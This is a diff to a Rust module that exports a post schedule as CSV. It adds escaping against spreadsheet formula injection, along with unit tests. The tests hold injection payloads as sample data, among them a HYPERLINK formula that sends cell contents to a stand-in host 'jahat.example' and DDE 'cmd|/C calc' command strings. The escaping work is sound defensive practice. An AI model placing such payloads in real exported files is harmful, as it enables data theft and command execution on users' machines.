@@ -1,5 +1,7 @@
 //! `schedule.csv`: every post with its day, its files and its words, one row for each account and format: for a spreadsheet, and
-//! for schedulers that read one.
+//! for schedulers that read one. Nothing in it is a formula.
+
+use std::borrow::Cow;
 
 use super::Done;
 use super::texts::hashtags;
@@ -25,21 +27,125 @@ pub(super) fn table(done: &Done<'_>) -> String {
             let inside =
                 |path: &str| path.strip_prefix(done.pack).unwrap_or(path).trim_start_matches('/').to_owned();
             let files: Vec<String> = record.artifacts.iter().map(|artifact| inside(&artifact.path)).collect();
-            let _ = csv.write_record([
-                &when("%Y-%m-%d"),
-                &when("%H:%M"),
-                &when("%:z"),
-                post.account,
-                post.item.service.as_deref().unwrap_or_default(),
-                &post.item.id,
-                &record.format,
-                &files.join("; "),
-                post.item.post.caption.trim(),
-                &hashtags(&post.item.post),
-                &post.item.post.link,
-                post.item.post.alt.trim(),
-            ]);
+            let (files, tags) = (files.join("; "), hashtags(&post.item.post));
+            let cells: [Cow<'_, str>; 12] = [
+                when("%Y-%m-%d").into(),
+                when("%H:%M").into(),
+                // A sign at the beginning of a cell begins a formula.
+                when("UTC%:z").into(),
+                harmless(post.account),
+                harmless(post.item.service.as_deref().unwrap_or_default()),
+                harmless(&post.item.id),
+                harmless(&record.format),
+                harmless(&files),
+                harmless(post.item.post.caption.trim()),
+                harmless(&tags),
+                harmless(&post.item.post.link),
+                harmless(post.item.post.alt.trim()),
+            ];
+            let _ = csv.write_record(cells.iter().map(|cell| cell.as_bytes()));
         }
     }
     String::from_utf8(csv.into_inner().unwrap_or_default()).unwrap_or_default()
+}
+
+/// `text` as a cell that no spreadsheet works out: an apostrophe stands before what would begin a formula. Spreadsheets read a cell
+/// with one as text, and most do not show it; a scheduler that reads the file shows it before such a text.
+///
+/// Where a semicolon stands between cells, as in Indonesia, a spreadsheet that is not told of the commas begins a cell after each
+/// semicolon and each end of a line, quoted or not. There an apostrophe stands before what is a formula, not before the dash of a
+/// list or the name of an account.
+fn harmless(text: &str) -> Cow<'_, str> {
+    let mut out = String::new();
+    let mut rest = text;
+    // Blanks before it, lines among them, belong to what begins there.
+    let mut from = text.len() - seen(text).len();
+    let mut guarded = begins_formula(text);
+    loop {
+        let end = rest[from..].find(BREAKS).map_or(rest.len(), |at| from + at + 1);
+        let (part, after) = rest.split_at(end);
+        if guarded {
+            out.push('\'');
+        }
+        out.push_str(part);
+        if after.is_empty() {
+            break;
+        }
+        (rest, from, guarded) = (after, 0, is_formula(after.split(BREAKS).next().unwrap_or(after)));
+    }
+    if out.len() == text.len() { text.into() } else { out.into() }
+}
+
+/// What may end a cell.
+const BREAKS: [char; 4] = [';', '\n', '\r', '\t'];
+
+/// What begins a formula, as wide as East Asian keyboards write it, too.
+const SIGNS: [char; 8] = ['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];
+
+/// `part` from its first character on that is seen.
+fn seen(part: &str) -> &str {
+    part.trim_start_matches(|c: char| {
+        c.is_whitespace()
+            || c.is_control()
+            || matches!(c, '"' | '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2060}' | '\u{feff}')
+    })
+}
+
+/// Whether a cell that holds `text` may be taken for a formula.
+fn begins_formula(text: &str) -> bool {
+    text.starts_with(['\t', '\r', '\n']) || seen(text).starts_with(SIGNS)
+}
+
+/// Whether `part` is one: it begins with an equals sign, or with another sign and calls a function or another program.
+fn is_formula(part: &str) -> bool {
+    let seen = seen(part);
+    let calls = || {
+        let is_call = |(at, _): (usize, &str)| seen[..at].ends_with(|c: char| c.is_alphanumeric());
+        seen.contains('|') || seen.match_indices('(').any(is_call)
+    };
+    seen.starts_with(['=', '\u{ff1d}']) || (seen.starts_with(SIGNS) && calls())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_begins_a_formula_is_text() {
+        for cell in [
+            "=HYPERLINK(\"http://jahat.example/?\"&A1;\"Klik\")",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+62 812 3456",
+            "-5",
+            "=",
+            "  =1+1",
+            "\u{a0}@a",
+            "\u{feff}=1",
+            "\u{200b}=1",
+            "\t=1",
+            "\tteks",
+            "\rteks",
+            "\u{ff1d}1+1",
+            "\u{ff0b}1",
+            "\u{ff0d}1",
+            " \u{ff20}SUM(1)",
+            "\"=1",
+        ] {
+            assert_eq!(harmless(cell), format!("'{cell}"));
+        }
+    }
+
+    #[test]
+    fn what_a_semicolon_or_a_line_ends_begins_no_formula() {
+        assert_eq!(harmless("Halo;=1+1"), "Halo;'=1+1");
+        assert_eq!(harmless("Halo\n =HYPERLINK(\"x\")\nsampai"), "Halo\n' =HYPERLINK(\"x\")\nsampai");
+        assert_eq!(harmless("a;-cmd|'/C calc'!A0"), "a;'-cmd|'/C calc'!A0");
+        assert_eq!(harmless("a; @SUM(A1)"), "a;' @SUM(A1)");
+        // What people write in lists is left alone.
+        for text in
+            ["Bawa:\n- buku\n- pensil (dua)\n@pustekkom", "", "a = b", "https://contoh.id/?a=b", "#Satu #Dua"]
+        {
+            assert_eq!(harmless(text), text);
+        }
+    }
 }
